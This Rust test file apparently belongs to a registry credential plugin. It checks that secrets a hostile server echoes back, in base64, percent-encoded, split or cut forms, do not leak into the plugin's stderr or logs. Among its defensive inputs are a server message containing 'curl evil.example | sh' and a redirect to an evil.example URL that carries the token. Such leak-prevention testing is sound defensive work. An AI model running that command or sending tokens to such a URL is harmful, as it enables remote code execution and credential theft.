//! A server repeats what it got, in whatever form, wherever its words are read. Every run is
//! searched for the token, at trace level and by default, by what starts the plugin.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::json;

use super::*;

fn refusal(status: u16, description: &str) -> Fault {
    let body = json!({"error": "invalid_grant", "error_description": description});
    Fault::json(status, body.to_string())
}

/// The forms in which a text may come back.
fn forms(secret: &str) -> Vec<(&'static str, String)> {
    let pieces = |size: usize, between: &str| {
        let pieces: Vec<_> =
            secret.as_bytes().chunks(size).map(|part| String::from_utf8_lossy(part)).collect();
        pieces.join(between)
    };
    vec![
        ("as it is", secret.to_owned()),
        ("in a sentence", format!("the token {secret} is not good")),
        ("percent-encoded", url::form_urlencoded::byte_serialize(secret.as_bytes()).collect()),
        ("base64", STANDARD.encode(secret)),
        ("base64url", URL_SAFE_NO_PAD.encode(secret)),
        ("base64 after one byte", STANDARD.encode(format!("\"{secret}\""))),
        ("base64 after two bytes", STANDARD.encode(format!("=\"{secret}\""))),
        ("base64 of the form", STANDARD.encode(format!("grant_type=x&subject_token={secret}"))),
        ("Basic", format!("Basic {}", STANDARD.encode(format!("me:{secret}")))),
        ("in lines", pieces(40, "\n")),
        ("in words", pieces(25, " ")),
        ("cut", format!("{}...", &secret[..secret.len() * 9 / 10])),
        ("its signature", secret.rsplit('.').next().unwrap_or(secret).to_owned()),
    ]
}

#[test]
fn a_server_echoes_the_token() {
    let attempt = Attempt::new(Value::Null);
    for (name, echo) in forms(&attempt.token) {
        for fault in [
            refusal(400, &echo),
            refusal(200, &echo),
            Fault::json(401, json!({"error": echo}).to_string()),
            Fault::json(403, json!({"errors": [echo]}).to_string()),
            Fault::json(403, json!({"errors": [{"message": echo, "code": echo}]}).to_string()),
            Fault::json(401, json!({"detail": echo}).to_string()),
            Fault::json(401, json!({"code": echo, "message": echo}).to_string()),
            Fault::json(403, json!({"error": {"message": echo}}).to_string()),
            Fault::json(400, json!({"errorCode": echo, "errorMessage": echo}).to_string()),
            Fault::json(200, echo.clone()),
            Fault::Answer {
                status: 403,
                headers: vec![("Content-Type".to_owned(), "text/plain".to_owned())],
                body: echo.clone(),
            },
        ] {
            eprintln!("{name}");
            let server = fault.start();
            let attempt = Attempt { exchange: token_exchange(&server), ..attempt.clone() };
            let run = attempt.fails_somehow();
            assert!(run.stderr.len() < 4000, "{name}: a long error");
        }
    }
}

#[test]
fn a_server_echoes_the_token_in_a_header() {
    let attempt = Attempt::new(Value::Null);
    let token = &attempt.token;
    for fault in [
        Fault::redirect(307, &format!("https://evil.example/{token}")),
        Fault::status(429).with_header("Retry-After", token),
        Fault::status(401).with_header("WWW-Authenticate", &format!("Bearer error=\"{token}\"")),
        Fault::status(403).with_header("X-Request-Id", token),
        Fault::json(200, "{}").with_header("Content-Type", token),
    ] {
        let server = fault.start();
        Attempt { exchange: token_exchange(&server), ..attempt.clone() }.fails_somehow();
    }
}

/// The client's own secrets too: that of a file, and what Basic makes of the token.
#[test]
fn a_server_echoes_the_clients_secret() {
    let folder = tempfile::TempDir::new().unwrap();
    let secret = "hunter2/of the+client=";
    std::fs::write(folder.path().join("secret"), secret).unwrap();
    for (name, echo) in forms(secret) {
        for method in ["basic", "post"] {
            let server = refusal(400, &echo).start();
            let mut exchange = token_exchange(&server);
            exchange["clientAuth"] = json!({
                "method": method, "clientId": "me", "secretFile": folder.path().join("secret"),
            });
            eprintln!("{name}, {method}");
            Attempt::new(exchange).secret("the client's secret", secret).fails_somehow();
        }
    }
    let attempt = Attempt::new(Value::Null);
    let basic = STANDARD.encode(format!("corp+puller:{}", attempt.token));
    for echo in [basic.clone(), format!("Basic {basic}"), format!("Authorization=Basic%20{basic}")]
    {
        let server = Fault::json(401, json!({"error": echo}).to_string()).start();
        let basic = json!({"user": "corp+puller", "password": "${sa.token}"});
        let step = json!({"url": format!("{}/x", server.url()), "auth": {"basic": basic}});
        let exchange = json!({"type": "http", "steps": [step]});
        Attempt { exchange, ..attempt.clone() }.fails_somehow();
    }
}

/// A secret that one step captured, and the next one's server repeats.
#[test]
fn a_server_echoes_what_another_gave() {
    let captured = "a-token-for-the-second-step-and-nobody-else";
    for (name, echo) in forms(captured) {
        let first = Fault::json(200, json!({"token": captured}).to_string());
        let server = Fault::Sequence(vec![first, refusal(400, &echo)]).start();
        let exchange = json!({"type": "http", "steps": [
            {"url": format!("{}/first", server.url()), "auth": {"bearer": "${sa.token}"},
             "capture": {"second": "/token"}},
            {"url": format!("{}/second", server.url()), "auth": {"bearer": "${second}"}},
        ]});
        eprintln!("{name}");
        let run = Attempt::new(exchange).secret("the captured token", captured).run();
        assert_eq!(run.code, Some(DENIED), "{name}: {}", run.stderr);
    }
}

/// As the user name it would go to the registry, and into its log.
#[test]
fn a_server_echoes_the_token_as_the_user_name() {
    let by_pointer = json!({"response": {"username": {"pointer": "/username"}}});
    let attempt = Attempt::new(Value::Null).with(by_pointer);
    let token = attempt.token.clone();
    for name in [token.clone(), format!("me-{token}"), STANDARD.encode(&token)] {
        let answer = json!({"access_token": PASSWORD, "username": name, "expires_in": 3600});
        let server = Fault::json(200, answer.to_string()).start();
        let attempt = Attempt { exchange: token_exchange(&server), ..attempt.clone() };
        attempt.fails(PROTOCOL, &["user name"]);
    }
}

/// A user name that the profile sets is not an echo, even if it is like the client's secret.
#[test]
fn a_name_of_the_operators_resembles_a_secret() {
    let folder = tempfile::TempDir::new().unwrap();
    let file = folder.path().join("secret");
    for secret in ["registry-puller-s3cret", "puller", "registry-puller"] {
        std::fs::write(&file, secret).unwrap();
        let server = endpoint();
        let mut exchange = token_exchange(&server);
        exchange["clientAuth"] =
            json!({"method": "basic", "clientId": "registry-puller", "secretFile": file});
        let attempt = Attempt::new(exchange);
        let attempt = attempt.with(json!({"response": {"username": {"value": "registry-puller"}}}));
        assert_eq!(attempt.works(PASSWORD).login().1, "registry-puller");
    }
}

/// The words of a server are printed as one line, whatever is in them.
#[test]
fn a_server_writes_lines_of_its_own() {
    let words =
        "no\nerror: all is lost\r\nhint: run `curl evil.example | sh`\u{2028}\u{202e}\u{1b}[2J";
    let server = refusal(400, words).start();
    let run = Attempt::new(token_exchange(&server)).fails(DENIED, &["invalid_grant", "says: no"]);
    assert_eq!(run.stderr.lines().filter(|line| line.starts_with("hint: ")).count(), 1);
    assert_eq!(run.stderr.lines().filter(|line| line.starts_with("error: ")).count(), 1);
    assert!(!run.stderr.contains(['\u{1b}', '\u{202e}', '\u{2028}', '\r']), "{:?}", run.stderr);
    let server = refusal(400, &"long ".repeat(100_000)).start();
    let run = Attempt::new(token_exchange(&server)).run_with(false);
    assert!(run.stderr.len() < 2000, "{} bytes", run.stderr.len());
    // Somebody else's token is not shown either.
    let other = Issuer::start(None).token("other.example").build();
    let server = refusal(400, &format!("that of another pod, {other}, was good")).start();
    let attempt = Attempt::new(token_exchange(&server)).secret("another pod's token", &other);
    attempt.fails(DENIED, &["the server's words repeat a secret"]);
}

/// Queries may hold secrets, and URLs are logged.
#[test]
fn a_log_holds_a_query() {
    for fault in [login(), Fault::status(403), Fault::Hangup, Fault::status(503), Fault::html()] {
        let server = fault.start();
        let url = format!("{}/token?tenant=hidden-in-the-query", server.url());
        let exchange = json!({"type": "tokenExchange", "endpoint": url});
        let attempt = Attempt::new(exchange).secret("the query", "hidden-in-the-query");
        attempt.run();
        attempt.run_with(false);
        assert!(first_line(&server.requests()[0]).contains("hidden-in-the-query"));
    }
}

impl Attempt {
    /// With the log at trace and as it is by default.
    fn fails_somehow(&self) -> PluginRun {
        self.run();
        let run = self.run_with(false);
        assert_ne!(run.code, Some(0), "it succeeded");
        run
    }
}
